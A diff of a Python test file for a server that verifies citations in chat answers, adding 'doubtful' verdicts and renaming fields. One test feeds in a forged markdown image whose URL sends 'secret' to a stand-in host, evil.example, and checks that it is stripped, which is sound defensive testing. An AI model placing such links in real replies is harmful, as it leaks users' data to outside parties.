@@ -137,7 +137,7 @@ async def test_an_invented_sentence_is_left_out_and_counted(language: str) -> No
     invented = "The senate of Mars moved to Zanzibar with 4711 elephants."
     answer = await ask_server(language, chat(f"{good} [1] {invented} [1]"))
     assert answer.text == f"{good} [1]"
-    assert [s.supported for s in answer.sentences] == [True, False]
+    assert [s.kept for s in answer.sentences] == [True, False]
     assert "1 of 2 sentences were left out" in answer.note
 
 
@@ -158,8 +158,10 @@ async def test_the_layout_of_the_reply_is_kept() -> None:
     answer = await ask_server("en", chat(told))
     assert answer.text == (
         "## Approval\n\nThe rules are:\n\n1. The RTO committee approves remote work. [1]\n"
-        "2. The committee meets on Mondays. [1]\n4. Dogs may come on Friday. [2]"
+        "2. The committee meets on Mondays. [1?]\n4. Dogs may come on Friday. [2?]"
     )
+    assert [s.verdict for s in answer.sentences if s.kept] == ["quoted", "doubtful", "doubtful"]
+    assert "Doubtful, and marked with a question mark: 2 of 5 sentences." in answer.note
 
 
 async def test_a_table_and_an_image_are_kept_only_to_the_letter() -> None:
@@ -168,7 +170,8 @@ async def test_a_table_and_an_image_are_kept_only_to_the_letter() -> None:
     table = "| a | b |\n|---|---|\n| 1 | 2 |"
     plan = "The plan ![Plan](img/plan.png) shows the rooms. [1]"
     answer = await ask_server("en", chat(f"{table}\n\n{plan}"), hits=hits, texts={"d1": text}, question="Sizes?")
-    assert answer.text == f"{table}\n\n[1]\n\n{plan}"
+    assert answer.text == f"{table}\n\n[1]\n\n{plan.replace('[1]', '[1?]')}"
+    assert [s.verdict for s in answer.sentences] == ["quoted", "doubtful"]
     forged = f"{table.replace('2', '3')}\n\n{plan.replace('img/plan.png', 'https://evil.example/?q=secret')}"
     answer = await ask_server("en", chat(forged), hits=hits, texts={"d1": text}, question="Sizes?")
     assert "evil" not in answer.text
@@ -357,6 +360,6 @@ async def test_a_source_in_another_language_can_hold_a_sentence() -> None:
         return text
 
     left = await verified(told, hits_of(text, "en"), "de", text_of, embedder)
-    assert [s.supported for s in left.sentences] == [True, False, False]
+    assert [s.kept for s in left.sentences] == [True, False, False]
     assert left.sentences[0].citations[0].quote == "The RTO committee approves remote work since 2021."
     assert left.translated == 1
